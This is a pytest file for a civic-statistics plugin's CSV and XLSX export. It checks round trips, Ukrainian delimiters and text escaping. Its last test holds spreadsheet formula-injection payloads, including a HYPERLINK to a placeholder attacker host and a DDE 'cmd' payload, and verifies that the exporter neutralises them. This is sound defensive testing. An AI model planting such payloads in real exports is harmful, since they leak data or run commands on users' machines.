"""CSV and XLSX export of the figures (core/export.py): round trips, read back with csv and openpyxl."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest

from openmisto_plugin.core import export, stats
from openmisto_plugin.core.stats import CITY_KEY, FIGURE_FIELDS
from tests.test_stats import AUGUST, NOW, PROCEDURE, build


@pytest.fixture(scope="module")
def sets():
    reports, history = build()
    names = {"department": {"roads": "Відділ доріг", "ujkg": "Управління ЖКГ"}, "district": {"center": "Центр"}}
    return {
        g: stats.figure_set(reports, history, AUGUST, g, now=NOW, names=names.get(g), procedure=PROCEDURE)
        for g in stats.GROUPINGS
    }


def test_csv_round_trip(tmp_path, sets):
    path = export.write_csv(tmp_path / "figures.csv", sets, delimiter=",", decimal=".")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel shows Ukrainian
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    headers = stats.figure_headers()
    assert header[:5] == ["Grouping", "Group", "Code", "Period", "Previous period"]
    assert header[5 : 5 + len(FIGURE_FIELDS)] == [headers[n] for n in FIGURE_FIELDS]
    assert header[-1] == "Change: " + headers[FIGURE_FIELDS[-1]]
    assert len(body) == sum(len(s.rows) for s in sets.values())
    col = {name: 5 + i for i, name in enumerate(FIGURE_FIELDS)}
    delta = {name: 5 + len(FIGURE_FIELDS) + i for i, name in enumerate(FIGURE_FIELDS)}
    roads = next(r for r in body if r[2] == "roads" and r[0] == "Departments")
    assert roads[1] == "Відділ доріг" and roads[3] == "2021-08" and roads[4] == "2021-07"
    city = [r for r in body if r[1] == "Whole city"]
    assert len(city) == 3 and all(r[2] == "" for r in city)
    c = city[0]
    assert int(c[col["received"]]) == 10 and int(c[col["overdue"]]) == 2
    assert float(c[col["resolved_in_time_share"]]) == 60.0  # percent in CSV
    assert float(c[col["response_days_p90"]]) == pytest.approx(9.6)
    assert float(c[col["closing_days_median"]]) == 9.5
    assert int(c[delta["received"]]) == 6
    assert float(c[delta["resolved_in_time_share"]]) == -40.0  # percentage points
    none = next(r for r in body if r[0] == "Departments" and r[1] == "Not assigned")
    assert none[col["response_days_median"]] == "" and none[col["resolved_in_time_share"]] == ""
    # every number written equals the figure it came from
    fs = sets["department"]
    for line, row in zip([r for r in body if r[0] == "Departments"], fs.rows):
        assert line[1] == row.label
        for name in ("received", "accepted", "rejected", "assigned", "resolved", "still_open", "overdue"):
            assert int(line[col[name]]) == row.current.value(name)
            assert int(line[delta[name]]) == row.deltas[name]


def test_csv_ukrainian_excel_dialect(tmp_path, sets):
    """Decimal comma → semicolon delimiter, as Excel expects in the Ukrainian locale."""
    path = export.write_csv(tmp_path / "uk.csv", {"department": sets["department"]}, decimal=",")
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines(), delimiter=";"))
    city = rows[-1]
    assert city[1] == "Whole city"
    assert "9,5" in city and "9,6" in city  # closing median, response p90
    with pytest.raises(ValueError):
        export.write_csv(tmp_path / "bad.csv", sets, delimiter=",", decimal=",")


def test_csv_from_plain_figures_without_comparison(tmp_path):
    reports, history = build()
    figures = stats.compute_figures(reports, history, AUGUST, "district", now=NOW, procedure=PROCEDURE)
    path = export.write_csv(tmp_path / "plain.csv", {"district": figures}, delimiter=";", decimal=".")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0][:4] == ["Grouping", "Group", "Code", "Period"]
    assert len(rows[0]) == 4 + len(FIGURE_FIELDS)  # no previous period, no changes
    assert [r[2] for r in rows[1:]] == ["center", "north", ""]


def test_xlsx_reads_back_with_openpyxl(tmp_path, sets):
    path = export.write_xlsx(tmp_path / "figures.xlsx", sets)
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
        assert "[Content_Types].xml" in z.namelist()
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Departments", "Districts", "Categories"]
    headers = stats.figure_headers()
    for grouping, sheet_name in zip(stats.GROUPINGS, wb.sheetnames):
        ws = wb[sheet_name]
        header = [c.value for c in ws[1]]
        assert header[:4] == ["Group", "Code", "Period", "Previous period"]
        assert header[4 : 4 + len(FIGURE_FIELDS)] == [headers[n] for n in FIGURE_FIELDS]
        data = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
        fs = sets[grouping]
        assert len(data) == len(fs.rows) and ws.max_row == len(fs.rows) + 1
        for line, row in zip(data, fs.rows):
            assert line[0] == row.label
            assert (line[1] or "") == ("" if row.key == CITY_KEY else row.key)  # "" = no department
            assert line[2] == "2021-08" and line[3] == "2021-07"
            for i, name in enumerate(FIGURE_FIELDS):
                got, want = line[4 + i], row.current.value(name)
                assert got == pytest.approx(want) if want is not None else got is None, (name, got, want)
                got_d, want_d = line[4 + len(FIGURE_FIELDS) + i], row.deltas[name]
                assert got_d == pytest.approx(want_d) if want_d is not None else got_d is None
    ws = wb["Departments"]
    city = [c.value for c in ws[ws.max_row]]
    assert city[0] == "Whole city" and city[4] == 10  # received, an int
    assert isinstance(city[4], int)
    share_cell = ws.cell(row=ws.max_row, column=5 + FIGURE_FIELDS.index("resolved_in_time_share"))
    assert share_cell.value == pytest.approx(0.6) and "%" in share_cell.number_format
    assert ws["B2"].value == "roads" and ws["A2"].value == "Відділ доріг" and ws["A1"].font.b


def test_xlsx_sheet_names_are_valid_and_unique():
    taken: set[str] = set()
    assert export.sheet_name("Райони/квартали: [центр]?", taken) == "Райони_квартали_ _центр__"
    assert export.sheet_name("A" * 40, taken) == "A" * 31
    assert export.sheet_name("a" * 40, taken) == "a" * 27 + " (2)"  # unique regardless of case
    with pytest.raises(ValueError):
        export.write_xlsx("unused.xlsx", {})


def test_xlsx_escapes_text(tmp_path):
    f = stats.Figures(key="a&b", label='<Служба> "Ж&К" \x01')
    path = export.write_xlsx(tmp_path / "esc.xlsx", {"department": [f]})
    ws = openpyxl.load_workbook(path)["Departments"]
    assert ws["A2"].value == '<Служба> "Ж&К" ' and ws["B2"].value == "a&b"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
]


def test_formulas_from_the_platform_are_neutralised_in_csv_and_xlsx(tmp_path):
    """A hostile platform names its departments as formulas: both files hold them as text with a leading '."""
    figures = [stats.Figures(key=f"d{i}", label=text) for i, text in enumerate(FORMULAS)]
    figures.append(stats.Figures(key="plain", label="-3"))  # a plain number as text stays as it is
    csv_path = export.write_csv(tmp_path / "f.csv", {"department": figures}, delimiter=";", decimal=",")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))[1:]
    labels = [r[1] for r in rows]
    assert labels == ["'" + t for t in FORMULAS] + ["-3"]
    raw = csv_path.read_text(encoding="utf-8-sig")
    assert not any(line.split(";")[1].startswith(("=", "+", "-", "@")) for line in raw.splitlines()[1:-1])

    xlsx_path = export.write_xlsx(tmp_path / "f.xlsx", {"department": figures})
    sheet = openpyxl.load_workbook(xlsx_path)["Departments"]
    cells = [sheet.cell(row=r, column=1) for r in range(2, len(figures) + 2)]
    assert [c.data_type for c in cells] == ["s"] * len(figures)  # strings, no formula ("f")
    # (XML reads a CR in text as a line feed)
    assert [c.value for c in cells] == ["'" + t.replace("\r", "\n") for t in FORMULAS] + ["-3"]
